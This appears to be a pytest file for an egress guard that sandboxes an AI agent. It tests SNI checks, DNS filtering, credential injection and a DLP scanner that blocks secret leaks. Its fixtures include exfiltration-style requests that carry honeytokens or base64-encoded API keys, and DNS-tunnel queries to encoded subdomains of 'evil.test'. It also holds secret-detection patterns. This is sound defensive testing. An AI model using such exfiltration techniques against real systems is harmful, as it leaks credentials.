"""Guard features beyond the core: SNI, DLP and honeytokens, credential routes (streaming), DNS."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import struct
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from claude_bottle.guard.audit import AuditLog
from claude_bottle.guard.config import Route, Secrets, load_secrets
from claude_bottle.guard.dlp import Scanner, encodings, is_tunnel_label
from claude_bottle.guard.dns import DnsServer, answer, parse_query
from claude_bottle.guard.tls import NEED_MORE, client_hello_sni
from claude_bottle.guard.tunnel import inspect_tunnel

from .guardkit import audit_lines, client_hello, decisions, ends, send, serving_guard

REAL_KEY = "sk-ant-api03-REALKEYabcdefghijklmnopqrstuvwxyz0123456789"
HONEY = "AKIAHONEYTOKEN0000001"


# -- TLS / SNI ----------------------------------------------------------------------------------
def test_sni_is_read_from_a_real_client_hello() -> None:
    hello = client_hello("api.example.com")
    assert client_hello_sni(hello) == "api.example.com"
    assert client_hello_sni(hello[:20]) is NEED_MORE
    assert client_hello_sni(client_hello("10.0.0.1")) is None  # IP literals carry no SNI
    with pytest.raises(ValueError):
        client_hello_sni(b"\x17\x03\x03\x00\x01x")


def test_inspect_tunnel() -> None:
    assert inspect_tunnel(client_hello("a.example"), "a.example") is None
    assert inspect_tunnel(client_hello("evil.example"), "a.example") == "sni-mismatch"
    assert inspect_tunnel(client_hello("A.EXAMPLE."), "a.example") is None
    assert inspect_tunnel(b"SSH-2.0-OpenSSH\r\n", "a.example") is None
    assert inspect_tunnel(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", "a.example") == "tunnel-not-tls"
    with pytest.raises(LookupError):
        inspect_tunnel(client_hello("a.example")[:20], "a.example")
    with pytest.raises(LookupError):
        inspect_tunnel(b"SSH", "a.example")


# -- DLP ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "pattern"),
    [
        ("key=sk-ant-api03-abcdefghijklmnopqrstuvwx", "anthropic-key"),
        ("AKIAIOSFODNN7EXAMPLE", "aws-access-key"),
        ("ghp_" + "a" * 36, "github-token"),
        ("xoxb-1234567890-abcdef", "slack-token"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----", "private-key"),
        ("-----BEGIN PRIVATE KEY-----", "private-key"),
    ],
)
def test_secret_patterns(text: str, pattern: str) -> None:
    hit = Scanner().find(text)
    assert hit is not None and hit.pattern == pattern


@pytest.mark.parametrize("prefix", ["", "x", "xy", "xyz"])
def test_real_credential_found_however_encoded(prefix: str) -> None:
    s = Scanner(secrets=["s3cr3t-value-1234"])
    raw = (prefix + "s3cr3t-value-1234" + "tail").encode()
    for carried in (
        raw.decode(),
        base64.b64encode(raw).decode(),
        base64.urlsafe_b64encode(raw).decode(),
        raw.hex(),
        raw.hex().upper(),
    ):
        hit = s.find(f"data={carried}&x=1")
        assert hit is not None and hit.pattern == "credential", carried
    assert s.find("nothing to see") is None
    assert "s3cr3t-value-1234" in encodings("s3cr3t-value-1234")


def test_tunnel_shaped_labels_and_redaction() -> None:
    assert is_tunnel_label("mzxw6ytboi4dsnzuge2tmnrxgq3dkmjsgm4q")
    assert is_tunnel_label("4a6f686e20536d69746820736563726574")
    assert not is_tunnel_label("api") and not is_tunnel_label("registry-npmjs-mirror-eu")
    s = Scanner(honeytokens=[HONEY])
    assert s.find_host("mzxw6ytboi4dsnzuge2tmnrxgq3dkmjsgm4q.t.evil.test").pattern == "encoded-hostname"  # type: ignore[union-attr]
    red = s.redact(f"/x?k={HONEY}&t=ghp_{'b' * 36}")
    assert HONEY not in red and "ghp_" not in red and "[REDACTED:honeytoken]" in red


def test_load_secrets(tmp_path: Path) -> None:
    p = tmp_path / "secrets.json"
    p.write_text(
        json.dumps(
            {
                "routes": {
                    "anthropic": {"upstream": "https://api.anthropic.com", "header": "x-api-key", "value": REAL_KEY}
                },
                "honeytokens": [HONEY],
            }
        )
    )
    sec = load_secrets(p)
    assert sec.match("/anthropic/v1/messages?beta=true") == (sec.routes["anthropic"], "/v1/messages?beta=true")
    assert sec.match("/other/x") is None
    assert REAL_KEY not in repr(sec.routes["anthropic"])
    assert sec.scanner.find(f"x {REAL_KEY}").pattern == "credential"  # type: ignore[union-attr]
    assert load_secrets(tmp_path / "absent.json").routes == {}


# -- the guard with secrets, on loopback ---------------------------------------------------------
Handler = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def with_guard(
    tmp_path: Path, upstream: Handler, fn: Callable[[int, int, Path], Awaitable[Any]], allow_upstream: bool = True
) -> Any:
    up = await asyncio.start_server(upstream, "127.0.0.1", 0)
    up_port = up.sockets[0].getsockname()[1]
    allow = [{"host": "127.0.0.1", "ports": [up_port], "private": True}] if allow_upstream else []
    secrets = Secrets(
        {"anthropic": Route("anthropic", f"http://127.0.0.1:{up_port}/base", "x-api-key", REAL_KEY, REAL_KEY)},
        (HONEY,),
        Scanner(secrets=[REAL_KEY], honeytokens=[HONEY]),
    )
    try:
        async with serving_guard(tmp_path, allow, secrets) as (port, audit):
            return await fn(port, up_port, audit)
    finally:
        up.close()
        await up.wait_closed()


seen: list[bytes] = []


async def recording_sse_upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = await reader.readuntil(b"\r\n\r\n")
    length = int(next(ln.split(b":")[1] for ln in head.split(b"\r\n") if ln.lower().startswith(b"content-length")))
    body = await reader.readexactly(length)
    seen.append(head + body)
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: keep-alive\r\n\r\n")
    writer.write(b"event: one\ndata: {}\n\n")
    await writer.drain()
    await asyncio.sleep(0.6)
    writer.write(b"event: two\ndata: {}\n\n")
    await writer.drain()
    writer.close()


def test_credential_route_adds_the_real_key_and_streams(tmp_path: Path) -> None:
    seen.clear()

    async def go(port: int, _up: int, audit: Path) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        body = b'{"model":"x","stream":true}'
        writer.write(
            b"POST /anthropic/v1/messages?beta=true HTTP/1.1\r\nHost: egress:3128\r\n"
            b"x-api-key: placeholder\r\nConnection: keep-alive\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body) + body
        )
        await writer.drain()
        t0 = time.monotonic()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        first = await asyncio.wait_for(reader.readuntil(b"\n\n"), 5)
        first_at = time.monotonic() - t0
        rest = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        await writer.wait_closed()
        assert head.startswith(b"HTTP/1.1 200") and b"Connection: close" in head and b"keep-alive" not in head
        assert first == b"event: one\ndata: {}\n\n" and b"event: two" in rest
        assert first_at < 0.5, "the first event must arrive before the upstream finishes (no buffering)"
        (req,) = seen
        assert req.startswith(b"POST /base/v1/messages?beta=true HTTP/1.1\r\n")
        assert f"x-api-key: {REAL_KEY}".encode() in req and b"placeholder" not in req
        assert req.endswith(body)
        lines = await audit_lines(audit, 2)
        (line,) = decisions(lines)
        assert line["kind"] == "route" and line["route"] == "anthropic" and line["decision"] == "allow"
        assert line["path"] == "/v1/messages" and line["query"] == "beta=true"
        (end,) = ends(lines)
        assert end["conn"] == line["conn"] and end["status"] == 200 and end["bytes_down"] == len(first + rest)
        assert REAL_KEY not in audit.read_text()

    asyncio.run(with_guard(tmp_path, recording_sse_upstream, go))


received: list[bytes] = []


async def echo_upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(Exception):
        received.append(await reader.readuntil(b"\r\n\r\n"))
        received.append(await asyncio.wait_for(reader.read(), 1))
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    await writer.drain()
    writer.close()


@pytest.mark.parametrize(
    ("request_text", "reason", "leak"),
    [
        ("GET http://127.0.0.1:{up}/?k=" + HONEY + " HTTP/1.1\r\n\r\n", "dlp:honeytoken", HONEY),
        (
            "GET http://127.0.0.1:{up}/ HTTP/1.1\r\nX-Data: "
            + base64.b64encode(REAL_KEY.encode()).decode()
            + "\r\n\r\n",
            "dlp:credential",
            REAL_KEY,
        ),
        (
            "POST http://127.0.0.1:{up}/ HTTP/1.1\r\nContent-Length: 44\r\n\r\n" + "k=AKIAIOSFODNN7EXAMPLE" + "x" * 22,
            "dlp:aws-access-key",
            "AKIAIOSFODNN7EXAMPLE",
        ),
        (
            "POST /anthropic/v1/messages HTTP/1.1\r\nx-api-key: placeholder\r\nContent-Length: "
            + str(len(REAL_KEY) + 2)
            + '\r\n\r\n"'
            + REAL_KEY
            + '"',
            "dlp:credential",
            REAL_KEY,
        ),
        (
            "CONNECT mzxw6ytboi4dsnzuge2tmnrxgq3dkmjsgm4q.evil.test:443 HTTP/1.1\r\n\r\n",
            "dlp:encoded-hostname",
            "mzxw6ytboi4dsnzuge2tmnrxgq3dkmjsgm4q",
        ),
    ],
)
def test_dlp_blocks_and_never_logs_the_secret(tmp_path: Path, request_text: str, reason: str, leak: str) -> None:
    received.clear()

    async def go(port: int, up: int, audit: Path) -> None:
        resp = await send(port, request_text.replace("{up}", str(up)).encode())
        assert resp.startswith(b"HTTP/1.1 403"), resp
        assert reason.encode() in resp
        # A secret in a head is refused before anything is sent; one in a body after its destination was
        # allowed (an allow line, then the deny): either way the upstream never sees it.
        lines = decisions(await audit_lines(audit))
        assert lines[-1]["decision"] == "deny" and lines[-1]["reason"] == reason
        assert [ln["decision"] for ln in lines] in (["deny"], ["allow", "deny"])
        assert leak not in audit.read_text()
        assert leak.encode() not in b"".join(received[1:])  # the body (a route's head carries the real key)

    asyncio.run(with_guard(tmp_path, echo_upstream, go))


def test_connect_with_mismatched_sni_is_cut_and_audited(tmp_path: Path) -> None:
    async def go(port: int, up: int, audit: Path) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(f"CONNECT 127.0.0.1:{up} HTTP/1.1\r\n\r\n".encode())
        assert (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 200")
        writer.write(client_hello("forbidden.example"))
        await writer.drain()
        assert await asyncio.wait_for(reader.read(), 5) == b""  # closed, nothing relayed
        writer.close()
        await writer.wait_closed()
        (line,) = await audit_lines(audit)
        assert (line["decision"], line["reason"], line["sni"]) == ("deny", "sni-mismatch", "forbidden.example")

    asyncio.run(with_guard(tmp_path, echo_upstream, go))


# -- DNS -----------------------------------------------------------------------------------------
def query(name: str, qtype: int = 1, qid: int = 0x1234) -> bytes:
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def test_dns_answers_only_local_names() -> None:
    local = {"egress": "10.213.0.2"}
    resp, decision, _ = answer(query("example.com"), local)
    assert decision == "deny" and resp[:2] == b"\x12\x34" and resp[3] & 0x0F == 3  # NXDOMAIN
    resp, decision, _ = answer(query("egress"), local)
    assert decision == "allow" and resp[3] & 0x0F == 0 and resp.endswith(bytes([10, 213, 0, 2]))
    resp, _, _ = answer(query("egress", qtype=28), local)
    assert struct.unpack("!H", resp[6:8])[0] == 0  # no AAAA, NOERROR
    with pytest.raises(ValueError):
        parse_query(b"\x00" * 5)
    assert parse_query(query("A.Example.com"))[2] == "a.example.com"


def test_dns_server_over_udp_audits_each_query(tmp_path: Path) -> None:
    audit = tmp_path / "egress.jsonl"

    async def go() -> None:
        log = AuditLog(audit, bottle="t-abcde")
        server = DnsServer(log, lambda: {"egress": "10.0.0.2"}, Scanner)
        transport, tcp = await server.serve("127.0.0.1", 0)
        port = transport.get_extra_info("sockname")[1]
        loop = asyncio.get_running_loop()
        got: asyncio.Future[bytes] = loop.create_future()

        class Client(asyncio.DatagramProtocol):
            def datagram_received(self, data: bytes, addr: Any) -> None:
                got.set_result(data)

        client, _ = await loop.create_datagram_endpoint(Client, remote_addr=("127.0.0.1", port))
        client.sendto(query("aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE0.tunnel.evil.test"))
        resp = await asyncio.wait_for(got, 5)
        client.close()
        transport.close()
        tcp.close()
        await tcp.wait_closed()
        log.close()
        assert resp[3] & 0x0F == 3

    asyncio.run(go())
    (line,) = [json.loads(x) for x in audit.read_text().splitlines()]
    assert line["kind"] == "dns" and line["decision"] == "deny" and line["reason"] == "dlp:encoded-hostname"
    assert "aGVsbG8" not in line["host"] and line["qtype"] == "A"


def test_dns_flood_is_summarised_not_logged_line_by_line(tmp_path: Path) -> None:
    audit = tmp_path / "egress.jsonl"
    log = AuditLog(audit, bottle="t")
    server = DnsServer(log, dict, Scanner)
    t0 = time.monotonic()
    for i in range(500):
        assert server.handle(query(f"n{i}.example.com"), "10.0.0.3") is not None  # every query answered
    logged = [json.loads(x) for x in audit.read_text().splitlines()]
    assert 0 < len(logged) < 500  # the DNS budget's burst, then counting
    budget = log.budgets["dns"]
    assert sum(len(json.dumps(x, separators=(",", ":"))) + 1 for x in logged) <= budget.burst + budget.rate * (
        time.monotonic() - t0
    )
    log.flush_summaries()  # the guard's once-a-second timer
    log.close()
    lines = [json.loads(x) for x in audit.read_text().splitlines()]
    (summary,) = [ln for ln in lines if ln["kind"] == "summary"]
    assert summary["source"] == "dns" and summary["suppressed"] == 500 - len(logged)
    assert summary["counts"] == [{"decision": "deny", "reason": "nxdomain", "count": 500 - len(logged)}]


@pytest.mark.parametrize("how", ["plain", "tunnel"])
def test_responses_stream_before_the_upstream_finishes(tmp_path: Path, how: str) -> None:
    """The upstream sends its first part, then holds the rest until the client has seen that part: a guard
    that buffered a response (plain HTTP or a tunnel) until the upstream finished would never deliver it."""
    release = asyncio.Event()

    async def held_upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if how == "tunnel":
            await reader.readexactly(len(b"SSH-2.0-test\r\n"))
        else:
            await reader.readuntil(b"\r\n\r\n")
        head = b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n" if how == "plain" else b"SSH-2.0-up\r\n"
        writer.write(head + b"first")
        await writer.drain()
        await asyncio.wait_for(release.wait(), 10)
        writer.write(b"-last")
        await writer.drain()
        writer.close()

    async def go(port: int, up: int, _audit: Path) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        if how == "tunnel":
            writer.write(f"CONNECT 127.0.0.1:{up} HTTP/1.1\r\n\r\n".encode())
            assert (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)).startswith(b"HTTP/1.1 200")
            writer.write(b"SSH-2.0-test\r\n")
        else:
            writer.write(f"GET http://127.0.0.1:{up}/ HTTP/1.1\r\n\r\n".encode())
        await writer.drain()
        got = b""
        while not got.endswith(b"first"):
            chunk = await asyncio.wait_for(reader.read(100), 5)  # times out if the guard holds the part back
            assert chunk, got
            got += chunk
        release.set()
        rest = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        assert rest.endswith(b"-last")

    asyncio.run(with_guard(tmp_path, held_upstream, go))
